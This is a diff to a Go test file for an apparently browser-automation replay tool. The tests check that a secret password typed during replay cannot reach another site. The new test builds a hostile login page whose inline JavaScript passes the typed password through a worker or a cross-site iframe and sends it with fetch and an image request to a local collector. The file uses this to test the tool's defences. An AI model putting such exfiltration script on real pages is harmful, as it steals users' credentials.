@@ -5,6 +5,7 @@ import (
 	"fmt"
 	"net/http"
 	"net/http/httptest"
+	"net/url"
 	"os"
 	"path/filepath"
 	"strings"
@@ -168,7 +169,14 @@ func TestRecordingALinkThatLeavesTheSiteFails(t *testing.T) {
 }
 
 func TestPageCannotSendASecretOffSite(t *testing.T) {
-	const secret = "hunter2-canary"
+	// The second secret has the characters the browser's URL patterns
+	// treat as wildcards and escapes.
+	for _, secret := range []string{"hunter2-canary", `hunter2*can?ary\x`} {
+		t.Run(secret, func(t *testing.T) { pageCannotSend(t, secret) })
+	}
+}
+
+func pageCannotSend(t *testing.T, secret string) {
 	other := newCollector(t)
 	var hostile atomic.Bool
 	login := func(string) string {
@@ -192,7 +200,7 @@ document.getElementById('go').addEventListener('click', () => { location.href = 
 	r, page := replayFresh(t, tr, map[string]string{"password": secret}, nil)
 	time.Sleep(300 * time.Millisecond) // let anything that slipped through arrive
 	for _, req := range other.requests() {
-		if strings.Contains(req, "hunter2") {
+		if u, _ := url.QueryUnescape(req); strings.Contains(req, "hunter2") || strings.Contains(u, "hunter2") {
 			t.Fatalf("the secret reached the other site: %s", req)
 		}
 	}
@@ -224,5 +232,65 @@ func TestSecretIsNotTypedOnAnotherSite(t *testing.T) {
 	}
 	if v, _ := sess.Page.Locator("input").InputValue(); v != "" {
 		t.Fatalf("the secret was typed on the other site: %q", v)
+	}
+}
+
+// TestSecretCannotLeaveThroughAFrameOrAWorker hands what is typed to code
+// the page's own document does not run: a frame of another site (a
+// separate renderer process under site isolation) and a worker, each of
+// which sends it off-site.
+func TestSecretCannotLeaveThroughAFrameOrAWorker(t *testing.T) {
+	const secret = "hunter2-canary"
+	for _, via := range []string{"frame", "worker"} {
+		t.Run(via, func(t *testing.T) {
+			other := newCollector(t)
+			// The collector's site under another host name: 127.0.0.1 and
+			// localhost are different sites, so the frame gets its own
+			// process.
+			otherSite := strings.Replace(other.URL, "127.0.0.1", "localhost", 1)
+			frame := otherSite + "/frame"
+			var hostile atomic.Bool
+			home := pageServer(t, func(path string) string {
+				script := ""
+				if hostile.Load() {
+					script = `<iframe id="f" src="` + frame + `"></iframe><script>
+const pw = document.getElementById('pw');
+const w = new Worker(URL.createObjectURL(new Blob(["onmessage = (e) => fetch('` + other.URL + `/collect?via=worker&p=' + encodeURIComponent(e.data), {mode: 'no-cors'}).catch(() => {})"])));
+pw.addEventListener('input', () => {
+  if ('` + via + `' === 'frame') document.getElementById('f').contentWindow.postMessage(pw.value, '*');
+  else w.postMessage(pw.value);
+});
+</script>`
+				}
+				return `<title>login</title><label>Password <input id="pw" type="password"></label><button type="button">Sign in</button><p>Hello</p>` + script
+			})
+			// The frame's page: it sends what it is given to its own site.
+			other.Config.Handler = http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
+				other.mu.Lock()
+				other.seen = append(other.seen, r.Method+" "+r.URL.String())
+				other.mu.Unlock()
+				w.Header().Set("Content-Type", "text/html")
+				fmt.Fprint(w, `<script>onmessage = (e) => { new Image().src = '/collect?via=frame&p=' + encodeURIComponent(e.data); };</script>`)
+			})
+			vars := []trajectory.Variable{{Name: "password", Secret: true}}
+			tr := record(t, home.URL+"/", vars, map[string]string{"password": secret},
+				"type {{password}} into Password", "verify Hello is visible", "click Sign in", "verify Hello is visible")
+			hostile.Store(true)
+			r, _ := replayFresh(t, tr, map[string]string{"password": secret}, nil)
+			time.Sleep(300 * time.Millisecond) // let anything that slipped through arrive
+			sawFrame := false
+			for _, req := range other.requests() {
+				if strings.Contains(req, "hunter2") {
+					t.Fatalf("the secret reached the other site through the %s: %s", via, req)
+				}
+				sawFrame = sawFrame || strings.HasPrefix(req, "GET /frame")
+			}
+			if !sawFrame {
+				t.Fatalf("the page's frame of the other site never loaded: %v", other.requests())
+			}
+			if r.Status != trajectory.StatusFailed || !strings.Contains(r.Error, "blocked the page") {
+				t.Fatalf("want the run failed saying the page was blocked, got %s: %q", r.Status, r.Error)
+			}
+		})
 	}
 }
